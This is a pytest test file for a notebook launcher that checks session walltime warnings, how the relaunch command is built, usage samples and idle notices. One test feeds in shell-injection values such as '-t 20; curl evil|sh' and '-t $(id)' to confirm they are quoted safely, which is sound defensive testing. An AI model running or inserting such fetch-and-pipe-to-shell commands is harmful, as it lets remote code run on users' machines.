"""While a session is attached: what is known of its time and use, and which warnings come when."""

from __future__ import annotations

import socket
from datetime import datetime, timedelta, timezone
from pathlib import Path
from types import SimpleNamespace
from typing import Any, cast

import pytest

from notebook_launcher.core import events
from notebook_launcher.core.usage_samples import GpuSample, Sample
from notebook_launcher.planning.target import LaunchTarget
from notebook_launcher.profiles import ClusterProfile
from notebook_launcher.schedulers.base import JobRef, JobStatus, State
from notebook_launcher.session.record import Session, SessionRecord
from notebook_launcher.supervision.attached_status import AttachedStatus

THERE = timezone(timedelta(hours=1))
BEGAN = datetime(2026, 11, 21, 12, 0, tzinfo=THERE)
SESSION = "20261121-120000-k3f9"


class AttachedSession:
    """A session that runs since ``BEGAN``, and a clock that is set by hand."""

    def __init__(
        self,
        walltime: str = "2:00:00",
        command: str | None = "-t 2:00:00 --gpus 1",
        launched_from: str | None = None,
        is_default: bool = False,
    ) -> None:
        self.shown: list[events.Event] = []
        self.now = BEGAN
        record = SessionRecord(
            id=SESSION,
            created=BEGAN,
            scheduler="slurm",
            flags={"time": walltime},
            log="/log",
            command=command,
            launched_from=launched_from,
        )
        context = SimpleNamespace(
            clock=lambda: self.now,
            view=SimpleNamespace(show=self.shown.append),
            target=LaunchTarget(ClusterProfile(), "uni", None, "slurm", is_default=is_default),
        )
        self.status = AttachedStatus(cast(Any, context), Session(record, "/sessions/it", JobRef("7")))

    def begins(self, minutes: float = 0.0) -> None:
        """It is held from so many minutes after its start on."""
        self.now = BEGAN + timedelta(minutes=minutes)
        self.status.job_started({"started": BEGAN.astimezone(timezone.utc).isoformat()})
        self.status.attach()

    def passes(self, until: float, step: float = 1.0) -> None:
        """Let the time pass until so many minutes after its start."""
        end = BEGAN + timedelta(minutes=until)
        while self.now < end:
            self.now += timedelta(seconds=step)
            self.status.refresh()

    def says(self, walltime: str | None = None, start: str = "2026-11-21T12:00:00") -> None:
        """The scheduler tells."""
        self.status.status_changed(JobStatus(JobRef("7"), State.RUNNING, start=start, walltime=walltime))
        self.status.refresh()

    @property
    def left(self) -> list[int]:
        """With how many seconds left there was a warning."""
        return [event.seconds_left for event in self.shown if isinstance(event, events.TimeLeft)]

    @property
    def told(self) -> list[events.Attached]:
        return [event for event in self.shown if isinstance(event, events.Attached)]


@pytest.mark.parametrize(
    ("walltime", "warnings"),
    [
        ("2:00:00", [900, 300, 60]),
        ("20", [900, 300, 60]),
        ("19", [300, 60]),
        ("10", [300, 60]),
        ("6", [60]),
        ("2", [60]),
        ("1", []),
        ("unlimited", []),
    ],
)
def test_each_warning_comes_once_and_none_at_the_start(walltime: str, warnings: list[int]) -> None:
    session = AttachedSession(walltime)
    session.begins(0.1)
    session.passes(125, step=6.0)
    assert session.left == warnings


@pytest.mark.parametrize(
    ("minutes", "first"),
    [(100, 900), (106, 840), (112, 480), (116, 240), (119, 60), (119.5, 30)],
)
def test_who_comes_back_late_gets_the_one_warning_that_fits(minutes: float, first: int) -> None:
    session = AttachedSession()
    session.begins(minutes)
    session.passes(121)
    assert session.left == [first, *(left for left in (900, 300, 60) if left < first)]


def test_a_session_whose_time_is_over_is_not_warned() -> None:
    session = AttachedSession()
    session.begins(121)
    session.passes(122)
    assert session.left == []


def test_a_laptop_that_slept_gets_the_one_warning_that_fits() -> None:
    session = AttachedSession()
    session.begins()
    session.passes(118, step=118 * 60)
    assert session.left == [120]


def test_a_warning_tells_when_and_how_to_go_on(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    (tmp_path / "launch-notebook").touch(0o755)
    monkeypatch.setenv("PATH", str(tmp_path))
    session = AttachedSession("20")
    session.begins(19.5)
    warning = session.shown[-1]
    assert warning == events.TimeLeft(
        SESSION, "7", "2026-11-21T12:20:00+01:00", 30, "launch-notebook -t 2:00:00 --gpus 1"
    )
    older = AttachedSession("20", command=None)
    older.begins(19.5)
    assert cast(Any, older.shown[-1]).relaunch_command == "launch-notebook --cluster uni -t 20"
    elsewhere = AttachedSession(
        "20", command="--cluster mine -t 20", launched_from="far-away"
    )  # whose profiles are not ours
    elsewhere.begins(minutes=10)
    assert cast(Any, elsewhere.shown[-1]).relaunch_command == "on far-away: launch-notebook --cluster mine -t 20"
    here = AttachedSession("20", command="--cluster mine -t 20", launched_from=socket.gethostname())
    here.begins(minutes=10)
    assert cast(Any, here.shown[-1]).relaunch_command == "launch-notebook --cluster mine -t 20"


@pytest.mark.parametrize(
    ("command", "shown"),
    [
        ("--cluster uni -t 20", " -t 20"),
        ("--cluster unity -t 20", " --cluster unity -t 20"),
        ("--cluster uni", ""),
        ("run 'my lab.ipynb' --cluster uni -t 20 -- tf-gpu", " run 'my lab.ipynb' -t 20 -- tf-gpu"),
        ("submit a.sh -- --cluster uni", " submit a.sh -- --cluster uni"),
    ],
)
def test_the_default_cluster_is_left_out_of_the_command_that_starts_the_same_again(
    monkeypatch: pytest.MonkeyPatch, tmp_path: Path, command: str, shown: str
) -> None:
    (tmp_path / "launch-notebook").touch(0o755)
    monkeypatch.setenv("PATH", str(tmp_path))
    session = AttachedSession("20", command=command, launched_from=socket.gethostname(), is_default=True)
    session.begins(minutes=10)
    assert cast(Any, session.shown[-1]).relaunch_command == f"launch-notebook{shown}"


@pytest.mark.parametrize(
    ("command", "shown"),
    [
        ("-t 20; curl evil|sh", "-t '20;' curl 'evil|sh'"),
        ("-t $(id)", "-t '$(id)'"),
        ("-t '20", "'-t '\"'\"'20'"),
        ("--comment='a b' -- tf-gpu", "'--comment=a b' -- tf-gpu"),
    ],
)
def test_a_recorded_command_is_one_command(command: str, shown: str) -> None:
    session = AttachedSession("20", command=command, launched_from="far-away")
    session.begins(minutes=10)
    assert cast(Any, session.shown[-1]).relaunch_command == f"on far-away: launch-notebook {shown}"


def test_a_walltime_that_is_changed_is_noticed() -> None:
    session = AttachedSession()
    session.begins(110)
    assert session.left == [600]
    session.says("4:00:00")
    assert session.told[-1].ends == "2026-11-21T16:00:00+01:00"
    assert session.told[-1].seconds_left == 130 * 60
    session.passes(241, step=5)
    assert session.left == [600, 900, 300, 60]
    session.says("UNLIMITED")
    assert session.told[-1].ends is None


def test_an_end_that_moves_by_seconds_warns_once() -> None:
    session = AttachedSession()
    session.begins(105)
    session.says("2:00:00", start="2026-11-21T12:00:04")
    session.passes(106)
    assert session.left == [900]


def test_the_scheduler_s_start_counts_before_the_job_s() -> None:
    """The job's script began a minute after its walltime did: a slow prolog."""
    session = AttachedSession("30")
    session.begins(1)
    session.says("30:00", start="2026-11-21T11:59:00")
    assert [event.ends for event in session.told] == ["2026-11-21T12:30:00+01:00", "2026-11-21T12:29:00+01:00"]


def test_nothing_is_shown_before_it_is_attached_nor_after_a_requeue() -> None:
    session = AttachedSession("10")
    session.status.job_started({"started": BEGAN.isoformat()})
    session.passes(9)
    assert session.shown == []
    session.status.attach()
    assert session.left == [60]
    session.status.job_requeued()
    session.passes(30)
    assert len(session.shown) == 2
    assert session.status.seconds_left() is None


def sample(at: datetime, percent: float = 87.0) -> Sample:
    gpu = GpuSample("0", "A100", percent, 12595.0, 81920.0, 210.0)
    return Sample(at, 60.0, 3.2, 10445.0, (gpu,))


def test_samples_are_passed_on_as_they_come() -> None:
    session = AttachedSession()
    session.begins(1)
    for second in (5, 10):
        session.now += timedelta(seconds=5)
        session.status.usage_sampled(sample(session.now, percent=second))
        session.status.refresh()
        session.status.refresh()
    assert [event.gpus[0].percent if event.gpus else None for event in session.told] == [None, 5, 10]
    last = session.told[-1]
    assert last.gpus[0] == GpuSample("0", "A100", 10, 12595.0, 81920.0, 210.0)
    assert (last.cpu_cores, last.memory_mib, last.seconds_left) == (3.2, 10445.0, 7130)


def test_an_old_sample_is_none() -> None:
    """Who comes back to a session whose samples have stopped is told the last one by its file."""
    session = AttachedSession()
    session.begins(30)
    session.status.usage_sampled(sample(session.now - timedelta(seconds=61)))
    session.status.refresh()
    assert [event.sampled for event in session.told] == [None]


def test_what_could_not_be_saved_is_named() -> None:
    session = AttachedSession()
    session.status.unsaved_reported({"paths": ["before.ipynb"]})
    session.begins()
    for damaged in ({}, {"paths": "a"}, {"paths": [7]}, {"paths": []}):
        session.status.unsaved_reported(damaged)
    session.status.unsaved_reported({"paths": ["a\x1b[2J.ipynb", "b.txt"]})
    named = [event for event in session.shown if isinstance(event, events.NotSaved)]
    assert named == [events.NotSaved(SESSION, "7", (named[0].paths[0], "b.txt"))]
    assert "\x1b" not in named[0].paths[0]


def test_idleness_is_told_once_and_taken_back() -> None:
    session = AttachedSession()
    told = {"message": "Nobody has used it for 25 minutes.", "ends": "2026-11-21T11:35:00Z"}
    session.status.job_started({"started": BEGAN.isoformat()})
    session.status.idle_reported(told)
    assert session.shown == []
    session.begins()
    session.passes(1)
    idle = [event for event in session.shown if isinstance(event, events.Idle)]
    assert idle == [events.Idle(SESSION, "7", "Nobody has used it for 25 minutes.", "2026-11-21T12:35:00+01:00")]
    session.status.idle_reported(None)
    session.passes(2)
    assert isinstance(session.shown[-1], events.Note)
    session.status.idle_reported(told)
    session.passes(3)
    assert session.shown[-1] == idle[0]
